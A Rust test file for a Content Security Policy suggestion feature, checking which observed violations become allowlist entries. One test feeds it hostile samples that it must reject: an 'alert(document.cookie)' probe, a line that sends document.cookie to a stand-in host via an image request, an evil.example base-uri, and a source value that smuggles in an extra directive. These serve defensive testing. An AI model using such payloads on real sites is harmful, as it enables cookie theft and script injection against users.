use mantlet_types::Timestamp;

use super::*;
use crate::guards::csp::Source;

fn known(directive: &str, source: &str, sample: &str) -> Known {
    Known {
        directive: directive.to_owned(),
        source: source.to_owned(),
        count: 2,
        last: Timestamp::UNIX_EPOCH,
        documents: vec!["/".to_owned()],
        sample: sample.to_owned(),
    }
}

const HASH: &str = "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='";

fn texts(suggestion: &Suggestion, key: &str) -> Vec<String> {
    let list = suggestion.settings.get(key).into_iter().flatten();
    list.map(|value| value.text.clone()).collect()
}

#[test]
fn hosts_and_hashes_become_whole_lists() {
    let all = [
        known("img-src", "https://cdn.example", ""),
        known("script-src", "https://js.example", ""),
        known("script-src-elem", "https://js.example", ""),
        known("script-src", HASH, "start()"),
        known("script-src-elem", "'inline'", "start("),
        known("frame-src", "https://video.example", ""),
    ];
    let suggestion = suggest(&all, &CspSection::default());
    assert_eq!(texts(&suggestion, "img_src"), ["'self'", "https://cdn.example"]);
    assert_eq!(texts(&suggestion, "script_src"), ["'self'", "https://js.example"]);
    assert_eq!(texts(&suggestion, "frame_src"), ["https://video.example"]);
    assert_eq!(texts(&suggestion, "script_hashes"), [HASH.trim_matches('\'')]);
    assert_eq!(suggestion.doubts, []);
    let count = suggestion.settings["script_src"][1].known.as_ref().unwrap().count;
    assert_eq!(count, 4);
}

#[test]
fn what_looks_like_an_attack_is_never_suggested() {
    for one in [
        known("script-src", HASH, "alert(document.cookie)"),
        known("script-src-elem", "'inline'", "nobody's"),
        known("script-src-elem", "'inline'", "new Image().src='//e/'+document.cookie"),
        known("script-src-attr", "'inline'", "go()"),
        known("script-src", "'eval'", ""),
        known("script-src-elem", "data:", ""),
        known("script-src-elem", "blob:", ""),
        known("img-src", "http://cdn.example", ""),
        known("connect-src", "https://203.0.113.7", ""),
        known("connect-src", "https://[2001:db8::1]:8443", ""),
        known("object-src", "https://plugin.example", ""),
        known("base-uri", "https://evil.example", ""),
        known("img-src", "https://evil.example;script-src", ""),
    ] {
        let suggestion = suggest(std::slice::from_ref(&one), &CspSection::default());
        assert!(suggestion.settings.is_empty(), "{one:?}");
        assert_eq!(suggestion.doubts.len(), 1, "{one:?}");
    }
}

#[test]
fn what_is_allowed_already_is_not_suggested_again() {
    let section =
        CspSection { img_src: vec![Source::known("https://cdn.example")], ..CspSection::default() };
    let suggestion = suggest(&[known("img-src", "https://cdn.example", "")], &section);
    assert_eq!(suggestion, Suggestion::default());
}
